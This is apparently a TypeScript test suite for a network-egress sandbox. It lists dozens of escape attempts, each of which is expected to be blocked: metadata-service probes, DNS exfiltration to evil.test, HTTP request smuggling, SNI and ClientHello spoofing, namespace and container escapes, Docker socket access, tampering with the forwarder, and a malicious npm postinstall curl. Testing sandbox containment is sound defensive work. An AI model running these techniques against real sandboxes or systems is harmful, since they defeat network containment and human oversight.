/** The names and addresses of the test. Only `model.test`, `clear.test` and one port of localhost may be reached. */
export const publicAddress = '203.0.113.7'

/** What a way out knows of the machine that it must not reach. */
export interface Outside {
  /** A port of this machine with a server for TCP, UDP and IPv6 that must not be reached. */
  readonly closed: number
  /** The port of localhost that is on the list. */
  readonly open: number
  /** An address of this machine other than the loopback. */
  readonly address: string
  readonly gateway: string
  /** The path of a unix socket of this machine, and the name of an abstract one. */
  readonly socket: string
  readonly abstract: string
}

export interface Way {
  readonly name: string
  /** JavaScript that runs inside, with the functions of `prelude`; or a command of the shell. */
  readonly program: (outside: Outside) => string
  readonly shell?: true
  /** The reasons of the attempts that it leaves as events; none without. */
  readonly events?: readonly string[]
}

/** Functions for ways out. `through` is called where something was reached: the server outside decides in the end. */
export const prelude = String.raw`
const net = require('node:net'), dgram = require('node:dgram'), dns = require('node:dns'), fs = require('node:fs')
const { execSync } = require('node:child_process')
const proxyPort = Number(new URL(process.env.https_proxy).port)
const through = (what) => { console.log('THROUGH ' + what); process.exitCode = 0 }
process.exitCode = 1
// Resolves to what was read until the end, the first pause, or an error.
const talk = (options, ...texts) => new Promise((resolve) => {
  let read = ''
  const socket = net.connect(options)
  const end = (why) => { socket.destroy(); resolve(read || why) }
  socket.on('connect', async () => {
    for (const text of texts) {
      if (socket.destroyed) return
      socket.write(typeof text === 'string' ? Buffer.from(text, 'latin1') : text)
      await new Promise((next) => setTimeout(next, 120))
    }
  })
  socket.setTimeout(900, () => end('timeout'))
  socket.on('data', (chunk) => { read += chunk.toString('latin1') })
  socket.on('error', (error) => end('error ' + error.code))
  socket.on('close', () => resolve(read || 'closed'))
})
const tcp = async (host, port) => { const said = await talk({ host, port }, 'GET / HTTP/1.0\r\n\r\n'); if (!/^(error|timeout|closed)/.test(said)) through(said) }
const udp = (host, port, type = net.isIP(host) === 6 ? 'udp6' : 'udp4') => new Promise((resolve) => {
  const socket = dgram.createSocket(type)
  socket.on('error', () => {}).on('message', (text) => through(String(text)))
  socket.send('secret', port, host, () => {})
  setTimeout(() => { socket.close(); resolve() }, 400)
}).then(() => {})
const proxy = (...texts) => talk({ host: '127.0.0.1', port: proxyPort }, ...texts)
const connect = (target, ...more) => proxy('CONNECT ' + target + ' HTTP/1.1\r\nHost: ' + target + '\r\n\r\n', ...more)
const refused = async (target, ...more) => { const said = await connect(target, ...more); if (said.startsWith('HTTP/1.1 200')) through(target) }
const extension = (type, value) => { const head = Buffer.alloc(4); head.writeUInt16BE(type); head.writeUInt16BE(value.length, 2); return Buffer.concat([head, value]) }
const sized = (value, bytes) => { const head = Buffer.alloc(bytes); head.writeUIntBE(value.length, 0, bytes); return Buffer.concat([head, value]) }
const hello = (name, { ech = false, fill = 7 } = {}) => {
  const names = name === undefined ? [] : [extension(0, sized(Buffer.concat([Buffer.from([0]), sized(Buffer.from(name), 2)]), 2))]
  const extensions = sized(Buffer.concat([...names, ...(ech ? [extension(0xfe0d, Buffer.alloc(40, 1))] : []), extension(43, Buffer.from([2, 3, 4]))]), 2)
  const body = Buffer.concat([Buffer.from([3, 3]), Buffer.alloc(32, fill), Buffer.from([0]), sized(Buffer.from([19, 1]), 2), Buffer.from([1, 0]), extensions])
  return Buffer.concat([Buffer.from([22, 3, 1]), sized(Buffer.concat([Buffer.from([1]), sized(body, 3)]), 2)])
}
`

const bad = (...reasons: string[]) => reasons
const unlisted = bad('not-listed')
const js = (name: string, program: Way['program'], events?: readonly string[]): Way => ({
  name,
  program,
  ...(events && { events }),
})
const sh = (name: string, program: Way['program'], events?: readonly string[]): Way => ({
  ...js(name, program, events),
  shell: true,
})
const clear = (lines: string) => `await proxy('${lines}\\r\\n')`

export const ways: readonly Way[] = [
  // Direct
  js('TCP to an IPv4 address', ({ address, closed }) => `await tcp('${address}', ${closed})`),
  js(
    'TCP to an IPv6 address',
    ({ closed }) => `await tcp('2001:db8::1', ${closed}); await tcp('::ffff:203.0.113.7', ${closed})`,
  ),
  js(
    'the gateway of the host',
    ({ gateway, closed }) => `await tcp('${gateway}', ${closed}); await tcp('${gateway}', 80)`,
  ),
  js('another port of the loopback of the host', ({ closed }) => `await tcp('127.0.0.1', ${closed})`),
  js('::1', ({ closed }) => `await tcp('::1', ${closed})`),
  js('0.0.0.0', ({ closed }) => `await tcp('0.0.0.0', ${closed})`),
  js('the metadata service', () => `await tcp('169.254.169.254', 80)`),
  js(
    'a UDP datagram',
    ({ address, closed }) =>
      `await udp('${address}', ${closed}); await udp('127.0.0.1', ${closed}); await udp('::1', ${closed})`,
  ),
  sh(
    'ICMP by a raw socket',
    ({ address }) =>
      `perl -MSocket -e 'socket(S, PF_INET, SOCK_RAW, 1) or exit 1; send(S, pack("CCnnn", 8, 0, 0, 1, 1), 0, sockaddr_in(0, inet_aton("${address}"))) and print "THROUGH"'`,
  ),
  sh(
    'SCTP and packet sockets',
    ({ address, closed }) =>
      `perl -MSocket -e 'if (socket(S, PF_INET, SOCK_STREAM, 132)) { connect(S, sockaddr_in(${closed}, inet_aton("${address}"))) and print "THROUGH" } if (socket(P, 17, SOCK_RAW, 0x0300)) { recv(P, $b, 100, 64) and print "THROUGH" } exit 1'`,
  ),
  js(
    'QUIC to an allowed host',
    () => `await udp('203.0.113.7', 443); try { await udp('model.test', 443, 'udp4') } catch {}`,
  ),
  // Names
  js(
    'DNS over UDP',
    ({ address, closed }) =>
      `for (const at of ['8.8.8.8', '${address}:${closed}']) { const r = new dns.promises.Resolver({ timeout: 300, tries: 1 }); r.setServers([at]); await r.resolve4('secret.evil.test').then(through, () => {}) }`,
  ),
  js('DNS over TCP', ({ address, closed }) => `await tcp('8.8.8.8', 53); await tcp('${address}', ${closed})`),
  js(
    'DNS over HTTPS to an address',
    () => `await refused('1.1.1.1:443'); await refused('[2606:4700:4700::1111]:443')`,
    unlisted,
  ),
  js('the resolver of the host', () => `await tcp('127.0.0.53', 53); await udp('127.0.0.53', 53)`),
  js(
    'mDNS and LLMNR',
    () => `await udp('224.0.0.251', 5353); await udp('224.0.0.252', 5355); await udp('ff02::fb', 5353)`,
  ),
  js('data in a name', () => `await refused('secret.evil.test:443')`, unlisted),
  sh(
    'names of its own',
    ({ address, closed }) =>
      `echo '${address} model.test evil.test' > hosts; echo 'evil ${address}' > aliases; cp hosts /etc/hosts; cp hosts /etc/nsswitch.conf; HOSTALIASES=$PWD/aliases curl -sS -m 2 --noproxy '*' http://evil:${closed}/ || curl -sS -m 2 --noproxy '*' --resolve evil.test:${closed}:${address} http://evil.test:${closed}/`,
  ),
  // Words for the proxy
  js('a host that is not listed', () => `await refused('other.test:443')`, unlisted),
  js(
    'another port of a listed host',
    () => `await refused('model.test:8443'); await refused('model.test:80'); await refused('clear.test:443')`,
    unlisted,
  ),
  js('the address of a listed host', () => `await refused('203.0.113.7:443')`, unlisted),
  js(
    'addresses in other notations',
    ({ open }) =>
      `for (const a of ['3405803783', '0313.0.0161.7', '0xcb007107', '203.113.7', '[::ffff:203.0.113.7]', '[::ffff:cb00:7107]']) await refused(a + ':443'); for (const a of ['2130706433', '0x7f.1', '017700000001', '127.0.0.1', '[::1]', '[::ffff:127.0.0.1]']) await refused(a + ':${open}')`,
    ['not-listed', 'not-a-host'],
  ),
  js(
    'names that look alike',
    () =>
      `for (const name of ['model.test.evil.test', 'evilmodel.test', 'model.test.evil', 'xn--mdel-5qa.test', 'model-test', 'mod\u0065l.test..']) await refused(name + ':443'); for (const name of ['model.test.', 'MODEL.TEST']) if (!(await connect(name + ':443')).startsWith('HTTP/1.1 200')) process.exitCode = 3`,
    ['not-listed', 'not-a-host', 'not-tls'],
  ),
  js(
    'a user in the target',
    () =>
      `for (const target of ['user@model.test:443', 'model.test@evil.test:443', 'model.test:443@evil.test:443']) await refused(target)`,
    bad('not-a-host'),
  ),
  js(
    'other characters in the target',
    () =>
      `for (const target of ['model.test:443:22', 'model.test :443', 'model.test\\0.evil.test:443', 'model.test\\r\\nHost: evil.test:443', 'model.test%00evil.test:443', 'model.test/:443', 'model.test:0443x', 'model.test:65979']) await refused(target)`,
    ['not-a-host', 'not-http'],
  ),
  js(
    'two Host headers, and a target that differs',
    () =>
      `${clear('GET http://clear.test/ HTTP/1.1\\r\\nHost: clear.test\\r\\nHost: evil.test\\r\\n')}; ${clear('GET http://clear.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n')}; ${clear('GET http://clear.test/ HTTP/1.1\\r\\n')}; ${clear('GET http://clear.test@evil.test/ HTTP/1.1\\r\\nHost: clear.test\\r\\n')}`,
    ['host-differs', 'not-a-proxy-request'],
  ),
  js(
    'smuggling by two lengths',
    () =>
      `await proxy('POST http://clear.test/ HTTP/1.1\\r\\nHost: clear.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'); await proxy('POST http://clear.test/ HTTP/1.1\\r\\nHost: clear.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\nGET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')`,
    ['not-http'],
  ),
  js(
    'a second request to another host',
    () =>
      `const said = await proxy('GET http://clear.test/ HTTP/1.1\\r\\nHost: clear.test\\r\\n\\r\\n', 'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'); if ((said.match(/HTTP.1.1 200/g) ?? []).length !== 1) process.exitCode = 3`,
    ['allowed', 'not-listed'],
  ),
  js(
    'an upgrade in clear text',
    () =>
      `${clear('GET http://clear.test/ HTTP/1.1\\r\\nHost: clear.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n')}; ${clear('GET http://clear.test/ HTTP/1.1\\r\\nHost: clear.test\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n')}`,
    bad('upgrade'),
  ),
  js(
    'SOCKS and HTTP/2',
    () =>
      `await proxy(Buffer.from([4, 1, 1, 187, 203, 0, 113, 7, 0])); await proxy(Buffer.from([5, 1, 0])); await proxy('PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'); await proxy('GET / HTTP/1.1\\r\\nHost: clear.test\\r\\n\\r\\n')`,
    ['not-http', 'not-a-proxy-request'],
  ),
  js(
    'headers for other proxies',
    () =>
      `await proxy('PROXY TCP4 127.0.0.1 203.0.113.7 1 443\\r\\nCONNECT evil.test:443 HTTP/1.1\\r\\n\\r\\n'); await proxy('GET http://clear.test/headers HTTP/1.1\\r\\nHost: clear.test\\r\\nX-Forwarded-Host: evil.test\\r\\nForwarded: host=evil.test\\r\\nVia: 1.1 evil.test\\r\\nConnection: X-Hidden\\r\\nX-Hidden: evil.test\\r\\n\\r\\n')`,
    ['not-http', 'allowed'],
  ),
  // TLS
  js(
    'the server name of another host',
    () => `await connect('model.test:443', hello('evil.test'))`,
    bad('sni-differs'),
  ),
  js('no server name', () => `await connect('model.test:443', hello()); await connect('model.test:443', hello(''))`, [
    'sni-missing',
    'sni-differs',
  ]),
  js(
    'no TLS in a tunnel',
    () =>
      `await connect('model.test:443', 'SSH-2.0-evil\\r\\n'); await connect('model.test:443', 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')`,
    bad('not-tls'),
  ),
  js(
    'a second ClientHello with another name',
    () =>
      `await connect('model.test:443', hello('model.test', { fill: 82 }), Buffer.from([20, 3, 3, 0, 1, 1]), hello('evil.test'))`,
    bad('sni-differs'),
  ),
  js(
    'a server name that is encrypted',
    () =>
      `await connect('model.test:443', hello('evil.test', { ech: true })); await connect('model.test:443', hello('model.test', { ech: true }))`,
    ['sni-differs', 'sni-hidden'],
  ),
  // Addresses behind names
  js(
    'a listed name for the loopback',
    () => `await refused('loop.test:443', hello('loop.test'))`,
    bad('address-refused'),
  ),
  js(
    'a listed name for a private network',
    () => `for (const name of ['ten.test', 'unique.test', 'shared.test', 'mapped.test']) await refused(name + ':443')`,
    bad('address-refused'),
  ),
  js('a listed name for the metadata service', () => `await refused('meta.test:443')`, bad('address-refused')),
  js(
    'a name that changes its address',
    () => `await connect('turn.test:443', hello('turn.test')); await refused('turn.test:443', hello('turn.test'))`,
    ['allowed', 'address-refused'],
  ),
  sh('a redirect to another host', ({ open }) => `curl -sSf -m 5 -L http://localhost:${open}/redirect`, [
    'allowed',
    'not-listed',
  ]),
  // Around
  js(
    'unix sockets of the host',
    ({ socket, abstract }) =>
      `for (const path of ['${socket}', '\\0${abstract}', '/run/docker.sock', '/var/run/docker.sock', '/run/podman/podman.sock', '/tmp/.X11-unix/X0', '/run/dbus/system_bus_socket']) { const said = await talk({ path }, 'hello'); if (!/^(error|timeout|closed)/.test(said)) through(path) }`,
  ),
  sh(
    'namespaces of others',
    ({ address, closed }) =>
      `for p in /proc/[0-9]* 1; do nsenter --net=/proc/\${p##*/}/ns/net curl -sS -m 1 --noproxy '*' http://${address}:${closed}/; done; unshare -n true; ip link add x type dummy; ip route add default via 127.0.0.1; curl -sS -m 1 --noproxy '*' http://${address}:${closed}/`,
  ),
  js(
    'inherited file descriptors',
    () =>
      `for (let fd = 3; fd < 256; fd++) { try { if (fs.readlinkSync('/proc/self/fd/' + fd).startsWith('socket:') && fs.readFileSync('/proc/self/fdinfo/' + fd, 'utf8').match(/flags:\\s*(\\d+)/)[1].slice(-7, -6) !== '2') through(fd) } catch {} }`,
  ),
  sh(
    'a sandbox inside the sandbox',
    ({ address, closed }) =>
      `bwrap --share-net --ro-bind / / curl -sS -m 1 --noproxy '*' http://${address}:${closed}/ || unshare -Urn curl -sS -m 1 http://${address}:${closed}/ || podman run --network host x`,
  ),
  sh(
    'the proxy of another command',
    () =>
      `found=$(find / -xdev -name proxy.sock 2>/dev/null; find /run /tmp -name proxy.sock 2>/dev/null); [ "$(printf '%s\\n' "$found" | sort -u | grep -vc '^/run/jurist/egress/proxy.sock$')" = 0 ] && exit 1; echo THROUGH`,
  ),
  sh(
    'writing to the forwarder',
    () =>
      `for file in /run/jurist/egress/forward.cjs /run/jurist/egress/command.json /run/jurist/node; do echo x >> $file && echo THROUGH; rm -f $file && echo THROUGH; mv /run/jurist/egress/proxy.sock /tmp/p && echo THROUGH; done; exit 1`,
  ),
  sh(
    'git',
    ({ address, closed }) =>
      `for url in ssh://git@${address}:${closed}/x git://${address}:${closed}/x git@${address}:x; do GIT_SSH_COMMAND='ssh -o ConnectTimeout=1' timeout 5 git clone -q $url a; done; timeout 5 git -c core.gitProxy=/bin/cat clone -q git://evil.test/x b; timeout 5 git clone -q https://evil.test/x c; exit 1`,
    unlisted,
  ),
  sh(
    'registries of packages',
    () =>
      `printf 'registry=https://evil.test/\\nfetch-retries=0\\n' > .npmrc; printf '{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -sS -m 2 https://evil.test/"}}' > package.json; timeout 20 npm install left-pad --no-audit --no-fund; timeout 20 npm install --ignore-scripts=false; exit 1`,
    unlisted,
  ),
  js(
    'ending the forwarder, and too many connections',
    ({ open }) =>
      `const all = Array.from({ length: 400 }, () => net.connect(proxyPort, '127.0.0.1').on('error', () => {}).on('data', () => {})); await new Promise((r) => setTimeout(r, 1500)); for (const one of all) one.destroy(); await new Promise((r) => setTimeout(r, 200)); if (!(await connect('localhost:${open}')).startsWith('HTTP/1.1 200')) process.exitCode = 3; for (const signal of ['SIGSTOP', 'SIGCONT', 'SIGKILL']) { try { process.kill(process.ppid, signal) } catch {} } await tcp('127.0.0.1', proxyPort)`,
    ['too-many-connections', 'allowed'],
  ),
]
